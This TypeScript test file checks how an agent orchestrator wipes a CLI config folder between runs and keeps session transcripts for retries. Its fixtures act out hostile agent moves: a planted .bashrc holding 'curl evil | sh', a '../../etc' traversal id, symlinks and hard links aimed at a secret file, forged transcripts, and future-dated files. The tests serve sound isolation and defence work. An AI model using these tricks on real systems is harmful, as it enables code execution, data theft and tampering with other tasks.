// An agent's CLI config folder between runs: emptied after each, the run's own session
// transcript kept out of the agents' reach under its task's id in a bounded store, and carried
// to the task's retry for --resume.
import { randomUUID } from "node:crypto";
import {
  existsSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { execFileSync } from "node:child_process";
import {
  carrySession,
  emptyDir,
  keepSession,
  MAX_KEPT_SESSIONS,
  projectDir,
  resetConfig,
  sessionStore,
  sweepTrash,
  trashOf,
} from "./sessions.ts";

describe("session transcripts between runs", () => {
  let agents: string;
  const config = (agent: string) => path.join(agents, agent, "claude-config");
  const store = (agent: string) => sessionStore(path.join(agents, agent));
  /** Writes a transcript as the CLI does, in `agent`'s config folder for `cwd`. */
  const write = (agent: string, cwd: string, sessionId: string, text: string) => {
    const dir = projectDir(config(agent), cwd);
    mkdirSync(dir, { recursive: true });
    writeFileSync(path.join(dir, `${sessionId}.jsonl`), text);
  };
  /** What the AgentHost does after a run of `taskId` on `agent` that reported `sessionId`. */
  const afterRun = async (
    agent: string,
    cwd: string,
    sessionId: string,
    taskId: string,
    resumed?: string,
  ) => {
    const kept = keepSession({
      configDir: config(agent),
      cwd,
      sessionId,
      taskId,
      store: store(agent),
      agentsDir: agents,
      resumed,
    });
    await resetConfig(config(agent));
    return kept;
  };
  const carry = (agent: string, taskId: string, sessionId: string, cwd: string) =>
    carrySession(agents, taskId, sessionId, config(agent), cwd, undefined);
  const carried = (agent: string, cwd: string, sessionId: string) =>
    readFileSync(path.join(projectDir(config(agent), cwd), `${sessionId}.jsonl`), "utf8");
  beforeEach(() => {
    agents = mkdtempSync(path.join(tmpdir(), "conductor-sessions-"));
    for (const a of ["a", "b"]) mkdirSync(config(a), { recursive: true });
  });
  afterEach(() => rmSync(agents, { recursive: true, force: true }));

  it("leaves the next run nothing of the last, and carries each retry the last attempt's transcript", async () => {
    const [task, session] = [randomUUID(), randomUUID()];
    write("a", "/work/one", session, "attempt 1\n");
    writeFileSync(path.join(config("a"), ".bashrc"), "curl evil | sh\n");
    mkdirSync(path.join(projectDir(config("a"), "/work/one"), "memory"));
    expect(await afterRun("a", "/work/one", session, task)).toBe(true);
    // The next task on agent a sees an empty HOME: no earlier conversation, no dotfile.
    expect(readdirSync(config("a"))).toEqual([]);
    expect(readdirSync(store("a"))).toEqual([`${task}.jsonl`]);
    // Attempt 2 runs on agent b, in another folder: the transcript is copied there.
    expect(carry("b", task, session, "/work/two")).toBe(true);
    expect(carried("b", "/work/two", session)).toBe("attempt 1\n");
    // Its run is lost before it keeps anything (its engine gone, its AgentHost killed): the
    // folder is emptied, and the next attempt still has attempt 1's transcript to resume.
    await resetConfig(config("b"));
    expect(carry("b", task, session, "/work/two")).toBe(true);
    expect(carried("b", "/work/two", session)).toBe("attempt 1\n");
    writeFileSync(path.join(projectDir(config("b"), "/work/two"), `${session}.jsonl`), "2\n", {
      flag: "a",
    });
    // Dated far ahead (as by a clock stepped back at a restart since): its copy goes even so.
    utimesSync(path.join(store("a"), `${task}.jsonl`), 4e9, 4e9);
    await afterRun("b", "/work/two", session, task);
    // Attempt 3, on agent a again, goes on from attempt 2, not from what a kept of attempt 1.
    expect(existsSync(path.join(store("a"), `${task}.jsonl`))).toBe(false);
    expect(carry("a", task, session, "/work/one")).toBe(true);
    expect(carried("a", "/work/one", session)).toBe("attempt 1\n2\n");
    expect(carry("b", randomUUID(), session, "/w")).toBe(false);
    expect(carry("b", "../../etc", session, "/w")).toBe(false);
    // Attempt 4 resumes it and keeps nothing (its transcript replaced by a link, say): the
    // copy stays, the session it holds being the one attempt 4 went on with.
    expect(carry("b", task, session, "/work/two")).toBe(true);
    rmSync(path.join(projectDir(config("b"), "/work/two"), `${session}.jsonl`));
    expect(await afterRun("b", "/work/two", session, task, session)).toBe(false);
    expect(readdirSync(store("b"))).toEqual([`${task}.jsonl`]);
    // Attempt 5 has a session of its own and keeps nothing: no copy stays to be resumed in its
    // name.
    expect(await afterRun("a", "/work/one", randomUUID(), task)).toBe(false);
    expect([...readdirSync(store("a")), ...readdirSync(store("b"))]).toEqual([]);
    expect(carry("a", task, session, "/work/one")).toBe(false);
  });

  it("keeps only the run's own session, under its task's id: no run puts its transcript in another task's place", async () => {
    const [victimTask, victimSession] = [randomUUID(), randomUUID()];
    write("a", "/v", victimSession, "the victim's\n");
    await afterRun("a", "/v", victimSession, victimTask);
    // The attacker's run writes a transcript named after the victim's session (and task).
    const [task, session] = [randomUUID(), randomUUID()];
    write("a", "/x", session, "mine\n");
    write("a", "/x", victimSession, "FORGED\n");
    write("a", "/x", victimTask, "FORGED\n");
    await afterRun("a", "/x", session, task);
    expect(readdirSync(store("a")).sort()).toEqual([`${task}.jsonl`, `${victimTask}.jsonl`].sort());
    expect(carry("b", victimTask, victimSession, "/v")).toBe(true);
    expect(carried("b", "/v", victimSession)).toBe("the victim's\n");
  });

  it("keeps no link an agent planted as its transcript, and touches none of what it points at", async () => {
    const secret = path.join(agents, "secret.txt");
    writeFileSync(secret, "root's own\n");
    const dir = projectDir(config("a"), "/w");
    mkdirSync(dir, { recursive: true });
    const [soft, hard] = [randomUUID(), randomUUID()];
    symlinkSync(secret, path.join(dir, `${soft}.jsonl`));
    linkSync(secret, path.join(dir, `${hard}.jsonl`));
    expect(await afterRun("a", "/w", soft, randomUUID())).toBe(false);
    // A project folder that is a link (to another agent's store, say) is not walked either.
    const other = store("b");
    mkdirSync(other, { recursive: true });
    writeFileSync(path.join(other, "x.jsonl"), "theirs\n");
    mkdirSync(path.join(config("a"), "projects"));
    symlinkSync(other, projectDir(config("a"), "/l"));
    expect(await afterRun("a", "/l", hard, randomUUID())).toBe(false);
    expect(existsSync(store("a"))).toBe(false);
    expect(readdirSync(config("a"))).toEqual([]);
    expect(readFileSync(secret, "utf8")).toBe("root's own\n");
    expect(readdirSync(other)).toEqual(["x.jsonl"]);
  });

  it("leaves nothing behind whose name is not UTF-8", async () => {
    const base = Buffer.from(`${config("a")}/`);
    const odd = Buffer.concat([base, Buffer.from([0x7a, 0xe9])]);
    mkdirSync(odd);
    writeFileSync(Buffer.concat([odd, Buffer.from("/note")]), "left by task A\n");
    writeFileSync(Buffer.concat([base, Buffer.from([0xe9, 0x70])]), "x");
    await resetConfig(config("a"));
    expect(readdirSync(config("a"))).toEqual([]);
    await sweepTrash(trashOf(path.join(agents, "a")));
    expect(readdirSync(trashOf(path.join(agents, "a")))).toEqual([]);
    await expect(emptyDir(path.join(agents, "none"), trashOf(agents))).rejects.toThrow(/ENOENT/);
  });

  it("empties a tree deeper than any path can name, a wide one and many entries, leaving no trash", async () => {
    // 10 × 50 levels of 50 characters: about 25 KB below the folder, past PATH_MAX (4096).
    const level = "d".repeat(50);
    const chain = Array.from({ length: 50 }, () => level).join("/");
    const deep = `cd "$1" && for i in $(seq 1 10); do mkdir -p ${chain} && cd ${chain} || exit 1; done; touch left`;
    execFileSync("bash", ["-c", deep, "deep", config("a")]);
    execFileSync("bash", [
      "-c",
      'mkdir "$1/w" && cd "$1/w" && seq 1 20000 | xargs touch && cd .. && seq 1 5000 | xargs touch',
      "wide",
      config("a"),
    ]);
    await resetConfig(config("a"));
    expect(readdirSync(config("a"))).toEqual([]);
    await sweepTrash(trashOf(path.join(agents, "a")));
    expect(readdirSync(trashOf(path.join(agents, "a")))).toEqual([]);
  });

  it(`keeps the last ${MAX_KEPT_SESSIONS} transcripts kept, whatever dates the agents gave them`, async () => {
    const tasks: string[] = [];
    for (let i = 0; i < MAX_KEPT_SESSIONS + 5; i++) {
      const [task, session] = [randomUUID(), randomUUID()];
      write("a", "/w", session, "x\n");
      // An agent dates its transcript far ahead, to outlive every other one.
      const file = path.join(projectDir(config("a"), "/w"), `${session}.jsonl`);
      if (i < 5) utimesSync(file, 4e9, 4e9);
      await afterRun("a", "/w", session, task);
      tasks.push(task);
    }
    const kept = readdirSync(store("a")).sort();
    expect(kept).toEqual(
      tasks
        .slice(5)
        .map((t) => `${t}.jsonl`)
        .sort(),
    );
  });
});
